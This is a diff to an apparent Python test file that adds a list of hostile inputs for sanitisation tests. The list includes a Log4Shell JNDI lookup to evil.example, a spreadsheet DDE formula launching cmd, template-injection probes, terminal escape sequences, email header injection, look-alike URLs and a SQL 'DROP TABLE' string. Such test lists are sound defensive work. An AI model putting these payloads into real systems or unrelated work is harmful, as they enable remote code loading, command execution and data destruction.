@@ -63,8 +63,25 @@ HIDDEN = (
     "\u115f\u1160",
     "\uffa0",
 )
+CODE = (
+    '=HYPERLINK("https://evil.example","bank")',
+    "+1+cmd|' /C calc'!A0",
+    "${jndi:ldap://evil.example/a}",
+    "{{7*7}}{% raw %}#{7*7}",
+    "\x1b]8;;https://evil.example\x07bank\x1b]8;;\x07",
+    "\x9b31m\x1b[2J",
+    "<@U1|everyone>",
+    "<!date^0^{date}^https://evil.example|x>",
+    "<mailto:a@evil.example|b>",
+    "ｈｔｔｐｓ：／／evil.example",
+    "𝒽𝓉𝓉𝓅𝓈://𝑒𝓋𝒾𝓁.𝑒𝓍𝒶𝓂𝓅𝓁𝑒",
+    "=?utf-8?q?=0D=0ABcc:_x@evil.example?=",
+    "]]>]]&gt;<![CDATA[<b>]]>",
+    "' OR 1=1 -- \"; DROP TABLE x",
+    "> quote\n# heading\n- list\n1. one\n---\n| a | b |",
+)
 LONG = ("x" * 100_000, "@" * 5_000, "[" * 5_000, "<" * 5_000, "._" * 5_000, ":a" * 5_000, "&" * 5_000, "/a" * 5_000)
-HOSTILE = (*MENTIONS, *LINKS, *MARKUP, *LINES, *HIDDEN, *LONG, "", " ", "   \n ")
+HOSTILE = (*MENTIONS, *LINKS, *MARKUP, *LINES, *HIDDEN, *CODE, *LONG, "", " ", "   \n ")
 
 LIVE = {
     "a mention": r"[@＠﹫][^\s”…]",
